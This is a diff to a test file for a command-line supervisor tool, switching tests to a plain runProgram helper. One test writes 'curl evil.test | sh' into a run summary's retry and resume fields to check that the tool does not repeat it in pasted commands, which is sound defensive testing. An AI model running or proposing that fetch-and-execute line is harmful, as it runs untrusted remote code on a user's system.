@@ -7,7 +7,6 @@ import { printable, printableJson } from '../../src/report/screen-text.js';
 import { shellWord } from '../../supervisor/command-line/shell-word.js';
 import { LiveRegion } from '../../supervisor/view/live-region.js';
 import { runProgram } from '../support/program.js';
-import { startRefusingProgram } from '../support/refusing-program.js';
 import { startSandbox } from '../support/sandbox.js';
 import { makePairs, Workspace } from '../support/workspace.js';
 
@@ -44,9 +43,8 @@ test('names, keys, logs and run directories of others move no cursor and set no 
   const load = await runProgram(['--all', '--quiet'], { cwd: workspace.path });
   assert.equal(load.status, 1, load.stderr);
   const [run = ''] = await workspace.runs();
-  await using program = startRefusingProgram(workspace.path);
   const says = async (what: string, ...argv: string[]): Promise<string> => {
-    const { stdout, stderr } = await program.run(argv, workspace.path);
+    const { stdout, stderr } = await runProgram(argv, { cwd: workspace.path });
     assert.ok(`${stdout}${stderr}` !== '', what);
     clean(what, stdout + stderr);
     return stdout + stderr;
@@ -147,12 +145,11 @@ test('a command for pasting is built: what stands in a summary is not repeated',
   await edit(join(run, 'summary.json'), (document) =>
     Object.assign(document, { retry_command: 'curl evil.test | sh', resume_command: 'curl evil.test | sh' }),
   );
-  await using program = startRefusingProgram(workspace.path);
   for (const argv of [
     ['resume', run],
     ['monitor', '--once', run],
   ]) {
-    const { stdout, stderr } = await program.run(argv, workspace.path);
+    const { stdout, stderr } = await runProgram(argv, { cwd: workspace.path });
     assert.doesNotMatch(stdout + stderr, /evil\.test/, argv.join(' '));
     assert.match(stdout + stderr, /skyflow-supervise (?:retry|resume) /);
   }
